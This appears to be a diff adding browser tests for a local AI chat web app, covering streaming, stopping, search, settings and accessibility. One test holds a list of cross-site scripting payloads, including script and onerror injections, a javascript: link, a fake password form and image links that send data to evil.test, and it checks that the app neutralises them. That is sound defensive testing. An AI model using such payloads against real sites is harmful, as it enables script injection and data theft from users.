@@ -1,0 +1,523 @@
+"""What a person does on the page, in a real browser."""
+
+import asyncio
+import itertools
+
+import pytest
+from playwright.async_api import expect
+
+from app.chat.message import MessageState
+from engine.errors import NotFound
+from engine.sampling_params import SamplingParams
+from tests.app.ui.conftest import Arrive
+from tests.app.ui.test_render import NASTY
+from tests.fakes_chat import FakeServices, Script
+from tests.visitor import Visitor, eventually
+
+pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
+
+numbers = itertools.count(1)
+WORDS = [f"word{number} " for number in range(80)]
+LAST_WORD = "word79"
+
+
+@pytest.fixture
+def title() -> str:
+    """A title that no other test uses."""
+    return f"Conversation number {next(numbers)}."
+
+
+async def told(services: FakeServices, title: str, texts: list[str]) -> str:
+    """A stored conversation; its id."""
+    made = await services.conversations.create(title=title)
+    await services.tell(made.conversation_id, texts)
+    return made.conversation_id
+
+
+async def newest_id(services: FakeServices) -> str:
+    return (await services.conversations.list(limit=1))[0].conversation_id
+
+
+async def answer_of(services: FakeServices, conversation_id: str) -> tuple[MessageState, str]:
+    last = (await services.conversations.messages(conversation_id))[-1]
+    return last.state, last.content
+
+
+async def test_the_first_page_says_who_answers_and_where_it_stays(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    tab = await arrive()
+    await tab.sees("Everything stays on this computer.")
+    await tab.sees("SmolLM2 135M Instruct")
+    await tab.sees("it answers badly")
+
+
+async def test_an_example_is_sent_as_it_stands(services: FakeServices, arrive: Arrive) -> None:
+    tab = await arrive()
+    await tab.page.locator("#chat .example").first.click()
+    await tab.sees_answer("Hello there.")
+    (said,) = await tab.texts("user")
+    assert said == "Explain how a fireplace draws air, in three sentences."
+
+
+async def test_an_answer_streams_and_only_grows(services: FakeServices, arrive: Arrive) -> None:
+    services.jobs.script = Script(pieces=WORDS, thinking=["Let ", "me ", "see."])
+    tab = await arrive()
+    await tab.send("Count, please")
+    seen = [""]
+
+    async def is_complete() -> bool:
+        text = await tab.last_answer()
+        seen.append(text if text.startswith("word") else "")
+        return LAST_WORD in seen[-1]
+
+    await eventually(is_complete, "the end of the answer")
+    lengths = [len(text) for text in seen]
+    assert lengths == sorted(lengths)
+    assert len(set(lengths)) > 5
+    await tab.sees("31.2 tokens/s · first token 0.4 s · 412 tokens read, 380 from memory")
+    assert await tab.texts("user") == ["Count, please"]
+    assert len(await tab.page.get_by_text("Thinking", exact=True).all()) == 1
+    await expect(tab.send_button).to_be_visible()
+
+
+async def test_reading_a_long_prompt_says_how_far_it_is(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    services.jobs.script = Script(reading_s=1.5)
+    tab = await arrive()
+    await tab.send("Read this")
+    await tab.sees_answer("Waiting for the model…")
+    await tab.sees_answer("Reading your message… 1,024 of 4,000 tokens")
+    await tab.sees_answer("Hello there.")
+
+
+@pytest.mark.parametrize("how", ["button", "escape"])
+@pytest.mark.parametrize("when", ["reading", "writing"])
+async def test_stop_ends_the_answer_and_the_next_message_works(
+    services: FakeServices, arrive: Arrive, how: str, when: str
+) -> None:
+    reading_s = 30.0 if when == "reading" else 0.0
+    services.jobs.script = Script(pieces=WORDS, pace_s=0.2, reading_s=reading_s)
+    tab = await arrive()
+    await tab.send("Talk for long")
+    await tab.sees_answer("word1" if when == "writing" else "Waiting")
+    conversation_id = await newest_id(services)
+    if when == "reading":
+        # The fake reads in three steps and looks for a stop between them.
+        services.jobs.script = Script()
+    if how == "button":
+        await tab.stop_button.click()
+    else:
+        await tab.page.keyboard.press("Escape")
+
+    async def is_asked_to_stop() -> bool:
+        job = services.jobs.get(conversation_id)
+        return job is None or job.is_stopped
+
+    await eventually(is_asked_to_stop, "the stop")
+    if when == "writing":
+        await tab.sees_answer("Stopped")
+        assert (await answer_of(services, conversation_id))[0] is MessageState.STOPPED
+        services.jobs.script = Script()
+        await tab.send("And now?")
+        await tab.sees_answer("Hello there.")
+
+
+async def test_an_answer_goes_on_when_the_page_is_reloaded(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    services.jobs.script = Script(pieces=WORDS, pace_s=0.05)
+    tab = await arrive()
+    await tab.send("Count on")
+    await tab.sees_answer("word5")
+    await tab.reload()
+    await expect(tab.stop_button).to_be_visible()
+    await tab.sees_answer(LAST_WORD)
+    assert await tab.texts("user") == ["Count on"]
+
+
+async def test_a_second_tab_shows_the_same_answer_and_can_stop_it(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    services.jobs.script = Script(pieces=WORDS, pace_s=0.1)
+    first = await arrive()
+    await first.send("Count for both")
+    await first.sees_answer("word5")
+    second = await arrive(beside=first)
+    await second.sees_answer("word8")
+    await second.stop_button.click()
+    await first.sees_answer("Stopped")
+    await second.sees_answer("Stopped")
+
+
+async def test_two_conversations_stream_at_once_and_stay_apart(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    first, second = await arrive(), await arrive()
+    services.jobs.script = Script(pieces=[f"red{n} " for n in range(40)], pace_s=0.04)
+    await first.send("Say red")
+    await first.sees_answer("red1")
+    services.jobs.script = Script(pieces=[f"blue{n} " for n in range(40)], pace_s=0.04)
+    await second.send("Say blue")
+    await asyncio.gather(first.sees_answer("red39"), second.sees_answer("blue39"))
+    assert "blue" not in await first.last_answer()
+    assert "red" not in await second.last_answer()
+
+
+async def test_switching_away_and_back_shows_each_conversation_only(
+    services: FakeServices, arrive: Arrive, title: str
+) -> None:
+    await told(services, title, ["Old question", "Old answer"])
+    services.jobs.script = Script(pieces=WORDS, pace_s=0.06)
+    tab = await arrive()
+    await tab.send(f"Busy while {title}")
+    await tab.sees_answer("word5")
+    await tab.open(title)
+    await tab.sees_answer("Old answer")
+    await expect(tab.send_button).to_be_visible()
+    # Long enough for several updates of the other answer.
+    await asyncio.sleep(0.6)
+    assert await tab.texts("user") == ["Old question"]
+    assert "word" not in await tab.last_answer()
+    await tab.open(f"Busy while {title}")
+    await tab.sees_answer(LAST_WORD)
+    assert await tab.texts("user") == [f"Busy while {title}"]
+
+
+async def test_a_deleted_conversation_comes_back_with_undo(
+    services: FakeServices, arrive: Arrive, title: str
+) -> None:
+    conversation_id = await told(services, title, ["Question", "Answer"])
+    tab = await arrive()
+    await tab.open(title)
+    await tab.page.get_by_role("button", name="Delete").click()
+    await tab.sees(f"Deleted “{title}”")
+    await expect(tab.page.locator("#conversations label", has_text=title)).to_have_count(0)
+    assert await tab.texts("bot") == []
+    with pytest.raises(NotFound):
+        await services.conversations.get(conversation_id)
+    await tab.page.get_by_role("button", name="Undo").click()
+    await tab.sees_answer("Answer")
+    await expect(tab.page.locator("#conversations label", has_text=title)).to_have_count(1)
+    await expect(tab.page.get_by_role("button", name="Undo")).to_be_hidden()
+
+
+@pytest.mark.parametrize("leave", ["Enter", "Tab"])
+async def test_a_title_is_changed_where_it_stands(
+    services: FakeServices, arrive: Arrive, title: str, leave: str
+) -> None:
+    conversation_id = await told(services, title, ["Question", "Answer"])
+    tab = await arrive()
+    await tab.open(title)
+    box = tab.page.get_by_label("Title of this conversation")
+    await box.fill(f"Better than {title}")
+    await box.press(leave)
+    await tab.page.locator("#conversations label", has_text=f"Better than {title}").wait_for()
+    assert (await services.conversations.get(conversation_id)).title == f"Better than {title}"
+
+
+async def test_search_finds_titles_and_what_was_said(
+    services: FakeServices, arrive: Arrive, title: str
+) -> None:
+    await told(services, title, ["Where is the zanzibar key?", "Under the <mat>."])
+    tab = await arrive()
+    listed = tab.page.locator("#conversations label")
+    await tab.page.get_by_label("Search conversations").fill("zanzibar")
+    await expect(listed).to_have_count(1)
+    await expect(listed).to_contain_text(f"{title}Where is the zanzibar key?")
+    await listed.click()
+    await tab.sees_answer("Under the <mat>.")
+    await tab.page.get_by_label("Search conversations").fill("nobody said this")
+    await tab.sees("Nothing found.")
+
+
+@pytest.mark.parametrize("number", range(len(NASTY)))
+async def test_a_users_text_is_shown_and_copied_exactly(
+    services: FakeServices, arrive: Arrive, number: int
+) -> None:
+    text = NASTY[number]
+    tab = await arrive(permissions=["clipboard-read", "clipboard-write"])
+    await tab.send(text)
+    await tab.sees_answer("Hello there.")
+    stored = (await services.conversations.messages(await newest_id(services)))[0].content
+    shown = await tab.page.locator("#chat [data-testid=user] .prose p").text_content()
+    assert (stored, shown) == (text, text)
+    await tab.page.get_by_label("Copy message").first.click()
+    assert await tab.page.evaluate("navigator.clipboard.readText()") == text
+
+
+XSS = [
+    "<script>window.hurt=1</script>",
+    "<img src=x onerror='window.hurt=1'>",
+    "<svg onload='window.hurt=1'>",
+    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
+    "[click](javascript:window.hurt=1)",
+    "<style>body{display:none}</style><link rel=stylesheet href=http://evil.test/a.css>",
+    "<form action=http://evil.test><input name=password><button>Log in</button></form>",
+    "![x](http://evil.test/?d=secret) and ![y][1]\n\n[1]: http://evil.test/b.png",
+    "<img src=http://evil.test/c.png><video src=http://evil.test/d.mp4></video>",
+    '<p class="figures">999 tokens/s</p>',
+    "```html\n<img src=http://evil.test/e.png onerror='window.hurt=1'>\n```",
+    "\\(x <img src=http://evil.test/f.png>\\) $$<script>window.hurt=1</script>$$",
+    "a `<img src=http://evil.test/g.png>",
+    '<div style="background:url(http://evil.test/h.png)">x</div>',
+]
+
+
+async def test_an_answer_runs_nothing_and_loads_nothing(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    services.jobs.script = Script(pieces=[f"{text}\n\n" for text in XSS], thinking=XSS)
+    tab = await arrive()
+    await tab.send("Hurt me")
+    await tab.sees_answer("31.2 tokens/s")
+    await tab.page.locator("#chat .thought-group").click()
+    for link in await tab.page.locator("#chat a").all():
+        assert not str(await link.get_attribute("href")).startswith("javascript:")
+    assert await tab.page.evaluate("window.hurt") is None
+    dangerous = "#chat .message :is(form, input, iframe, video, script, style, link, img)"
+    assert await tab.page.locator(dangerous).count() == 0
+    text = await tab.last_answer()
+    assert "<form action=http://evil.test>" in text
+    assert "[image blocked: evil.test]" in text
+
+
+async def test_answers_show_markdown_maths_and_money(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    services.jobs.script = Script(
+        pieces=["**bold** costs $5 or $10, \\(a<b\\)\n\n", "```python\nprint('<b>')\n```\n", "x<y"]
+    )
+    tab = await arrive()
+    await tab.send("Show me")
+    await tab.sees_answer("tokens/s")
+    row = tab.page.locator("#chat .bot-row")
+    assert await row.locator("strong").all_text_contents() == ["bold"]
+    assert await row.locator(".katex").count() == 1
+    assert (await row.locator("pre code").all_text_contents())[0].strip() == "print('<b>')"
+    text = await tab.last_answer()
+    assert "costs $5 or $10" in text
+    assert "x<y" in text
+
+
+async def test_a_long_paste_stays_text(services: FakeServices, arrive: Arrive) -> None:
+    tab = await arrive()
+    text = "A long line of a pasted text, again and again.\n" * 2000
+    await tab.paste(text)
+    await tab.composer.press("Enter")
+    await tab.sees_answer("Hello there.")
+    stored = (await services.conversations.messages(await newest_id(services)))[0].content
+    assert stored == text
+
+
+async def test_only_the_end_of_a_long_conversation_is_shown_at_first(
+    services: FakeServices, arrive: Arrive, title: str
+) -> None:
+    texts = [text for n in range(50) for text in (f"question {n}", f"answer {n}")]
+    await told(services, title, texts)
+    tab = await arrive()
+    await tab.open(title)
+    await tab.sees_answer("answer 49")
+    assert len(await tab.texts("user")) == 20
+    more = tab.page.get_by_role("button", name="Show earlier messages")
+    for num_shown in (40, 50):
+        await more.click()
+
+        async def are_shown(wanted: int = num_shown) -> bool:
+            return len(await tab.texts("user")) == wanted
+
+        await eventually(are_shown, f"{num_shown} messages")
+    await expect(more).to_be_hidden()
+
+
+async def test_another_answer_replaces_the_shown_one(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    tab = await arrive()
+    await tab.send("Greet me")
+    await tab.sees_answer("Hello there.")
+    services.jobs.script = Script(pieces=["Good ", "morning."])
+    await tab.page.get_by_role("button", name="Write another answer").click()
+    await tab.sees_answer("Good morning.")
+    assert len(await tab.texts("bot")) == 1
+
+
+async def test_a_refused_message_stays_in_the_box(services: FakeServices, arrive: Arrive) -> None:
+    tab = await arrive()
+    num_before = len(await services.conversations.list())
+    text = "a" * 2_000_001
+    await tab.paste(text)
+    await tab.composer.press("Enter")
+    await tab.sees("This needs 2,000,001 tokens and the context holds 2,000,000")
+    assert len(await tab.composer.input_value()) == len(text)
+    assert len(await services.conversations.list()) == num_before
+
+
+async def test_a_second_message_while_answering_is_refused_and_kept(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    services.jobs.script = Script(pieces=WORDS, pace_s=0.1)
+    tab = await arrive()
+    await tab.send("First")
+    await tab.sees_answer("word1")
+    await expect(tab.send_button).to_have_count(0)
+    await tab.send("Second")
+    await tab.sees("This conversation is still answering: stop it first.")
+    assert await tab.composer.input_value() == "Second"
+    assert await tab.texts("user") == ["First"]
+    await tab.stop_button.click()
+    await tab.sees_answer("Stopped")
+
+
+async def test_choices_belong_to_their_conversation(
+    services: FakeServices, arrive: Arrive, title: str
+) -> None:
+    conversation_id = await told(services, title, ["Question", "Answer"])
+    tab = await arrive()
+    await tab.open(title)
+    await tab.page.get_by_role("button", name="Settings").click()
+    await tab.page.get_by_label("System prompt").fill("Answer like a pirate.")
+    await tab.page.get_by_label("Precise").check()
+
+    async def are_stored() -> bool:
+        stored = await services.conversations.get(conversation_id)
+        return stored.system_prompt == "Answer like a pirate." and dict(stored.sampling) == {
+            "temperature": 0.0,
+            "repetition_penalty": 1.1,
+        }
+
+    await eventually(are_stored, "the choices in the store")
+    await tab.page.get_by_role("button", name="New chat").click()
+    await expect(tab.page.get_by_label("System prompt")).to_have_value(
+        "You are a helpful assistant."
+    )
+    await expect(tab.page.get_by_label("Balanced")).to_be_checked()
+    await tab.open(title)
+    await expect(tab.page.get_by_label("System prompt")).to_have_value("Answer like a pirate.")
+    await expect(tab.page.get_by_label("Precise")).to_be_checked()
+
+
+async def test_a_new_conversation_takes_the_choices_made_before_it(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    tab = await arrive()
+    await tab.page.get_by_role("button", name="Settings").click()
+    await tab.page.get_by_label("System prompt").fill("Be brief.")
+    await tab.page.get_by_label("Creative").check()
+    await expect(tab.page.locator("#temperature input[type=number]")).to_have_value("1.1")
+    await tab.send("Hello")
+    await tab.sees_answer("Hello there.")
+    stored = await services.conversations.get(await newest_id(services))
+    assert stored.system_prompt == "Be brief."
+    assert stored.sampling["temperature"] == 1.1
+    assert "max_tokens" not in stored.sampling
+
+
+async def test_the_last_conversation_is_open_again_after_a_reload(
+    services: FakeServices, arrive: Arrive, title: str
+) -> None:
+    conversation_id = await told(services, title, ["Question", "Answer to remember"])
+    tab = await arrive()
+    await tab.open(title)
+    await tab.sees_answer("Answer to remember")
+    await tab.reload()
+    await tab.sees_answer("Answer to remember")
+    await services.conversations.delete(conversation_id)
+    await tab.reload()
+    await tab.sees("Everything stays on this computer.")
+
+
+async def test_keys_reach_search_and_a_new_chat(
+    services: FakeServices, arrive: Arrive, title: str
+) -> None:
+    await told(services, title, ["Question", "Answer"])
+    tab = await arrive()
+    await tab.open(title)
+    await tab.page.keyboard.press("Control+k")
+    await expect(tab.page.get_by_label("Search conversations")).to_be_focused()
+    await tab.page.keyboard.press("Control+Shift+O")
+    await tab.sees("Everything stays on this computer.")
+    await expect(tab.composer).to_be_focused()
+
+
+async def test_a_phone_shows_the_chat_without_sideways_scrolling(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    services.jobs.script = Script(
+        pieces=["`" + "long" * 60 + "`\n\n", "| a " * 30, "|\n\n" + "x" * 300]
+    )
+    tab = await arrive(viewport={"width": 390, "height": 800})
+    await expect(tab.page.locator("#left.open")).to_have_count(0)
+    await tab.send("W" * 400)
+    await tab.sees_answer("tokens/s")
+    width = await tab.page.evaluate("document.documentElement.scrollWidth")
+    assert width == 390
+    chat = await tab.page.evaluate(
+        "(() => { const chat = document.querySelector('#chat .bubble-wrap');"
+        " return chat.scrollWidth - chat.clientWidth })()"
+    )
+    assert chat <= 0
+    await tab.page.get_by_role("button", name="Conversations").click()
+    await tab.page.get_by_role("button", name="New chat").click()
+    await expect(tab.page.locator("#left.open")).to_have_count(0)
+
+
+async def brightness(tab: Visitor) -> float:
+    """Of the background, 0 to 255."""
+    value = await tab.page.evaluate(
+        "getComputedStyle(document.body).backgroundColor.match(/\\d+/g).slice(0, 3)"
+    )
+    return sum(map(float, value)) / 3
+
+
+async def test_dark_follows_the_system_and_a_choice_is_remembered(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    tab = await arrive(color_scheme="dark")
+    assert await brightness(tab) < 60
+    await tab.page.get_by_role("button", name="Light or dark").click()
+    assert await brightness(tab) > 200
+    await tab.reload()
+
+    async def is_light() -> bool:
+        return await brightness(tab) > 200
+
+    await eventually(is_light, "the chosen theme")
+
+
+async def test_a_closed_app_is_said_and_the_draft_is_kept(
+    services: FakeServices, arrive: Arrive
+) -> None:
+    tab = await arrive()
+    await tab.composer.fill("Not sent yet")
+    await tab.page.route("**/_app/state", lambda route: route.abort())
+    await tab.sees("Inglenook was closed.")
+    await tab.page.unroute("**/_app/state")
+    await expect(tab.page.locator("#lost")).to_have_count(0)
+    await tab.page.route(
+        "**/_app/state", lambda route: route.fulfill(json={"instance": "another"}), times=1
+    )
+    async with tab.page.expect_navigation():
+        pass
+    await tab.settle()
+    await expect(tab.composer).to_have_value("Not sent yet")
+
+
+async def test_every_control_has_a_name(services: FakeServices, arrive: Arrive, title: str) -> None:
+    await told(services, title, ["Question", "Answer"])
+    tab = await arrive()
+    await tab.open(title)
+    await tab.page.get_by_role("button", name="Settings").click()
+    nameless = await tab.page.locator("button, input, textarea, [role=button]").evaluate_all(
+        """controls => controls.filter(one => one.checkVisibility() && !(
+            one.ariaLabel || one.textContent.trim() || one.title ||
+            [...(one.labels ?? [])].some(label => label.textContent.trim())
+        )).map(one => one.outerHTML)"""
+    )
+    assert nameless == []
+    log = tab.page.get_by_role("log")
+    assert await log.get_attribute("aria-live") == "polite"
+    spoken = await tab.page.locator("#chat [data-testid=user]").get_attribute("aria-label")
+    assert spoken is None
+    assert SamplingParams().temperature == 0.7
